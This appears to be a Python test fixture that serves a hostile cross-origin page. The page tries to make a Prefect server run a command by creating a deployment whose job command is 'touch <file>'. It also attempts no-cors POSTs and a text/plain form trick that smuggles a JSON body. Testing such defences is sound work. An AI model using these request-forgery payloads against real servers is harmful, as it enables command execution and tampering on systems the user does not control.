"""A page of another origin that tries to make a Prefect server run a command."""

import contextlib
import functools
import http.server
import threading

PAGE = """<!doctype html><title>A page of somebody else</title>
<iframe name="nowhere"></iframe>
<script>
const outcomes = {};
async function attempt(name, work) {
  try { outcomes[name] = await work(); } catch (error) { outcomes[name] = "refused"; }
}
async function post(api, path, body) {
  const headers = {"Content-Type": "application/json"};
  const answer = await fetch(api + path, {method: "POST", headers, body: JSON.stringify(body)});
  if (!answer.ok) throw new Error(answer.status);
  return answer.json();
}
async function command(api, file) {
  const flow = await post(api, "/flows/", {name: "hostile"});
  const pool = await (await fetch(api + "/work_pools/local-process")).json();
  const deployment = await post(api, "/deployments/", {
    name: "hostile", flow_id: flow.id, work_pool_name: pool.name,
    entrypoint: "hostile.py:hostile", job_variables: {command: "touch " + file}});
  await post(api, `/deployments/${deployment.id}/create_flow_run`, {state: {type: "SCHEDULED"}});
  return "done";
}
// What a browser sends without asking first; the page may not read the answer.
async function blind(api, body) {
  await fetch(api + "/variables/", {method: "POST", mode: "no-cors", body});
  return "sent";
}
const variable = name => JSON.stringify({name, value: "hostile"});
function form(api) {
  const page = document.createElement("form");
  Object.assign(page, {method: "POST", action: api + "/variables/", enctype: "text/plain",
                       target: "nowhere"});
  const field = document.createElement("input");
  // Sent as {"name": "form", "value": "="}
  Object.assign(field, {name: '{"name": "form", "value": "', value: '"}'});
  page.append(field); document.body.append(page); page.submit();
  return new Promise(done => setTimeout(() => done("sent"), 1000));
}
async function attack(api, file) {
  await attempt("command", () => command(api, file));
  await attempt("text", () => blind(api, variable("text")));
  await attempt("typeless", () => blind(api, new Blob([variable("typeless")])));
  await attempt("form", () => form(api));
  return outcomes;
}
</script>
"""


class _Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(PAGE.encode())

    log_message = functools.partial(lambda *said: None)


@contextlib.contextmanager
def page():
    """Serve the page; yields its address."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}/"
    finally:
        server.shutdown()
        thread.join()
        server.server_close()
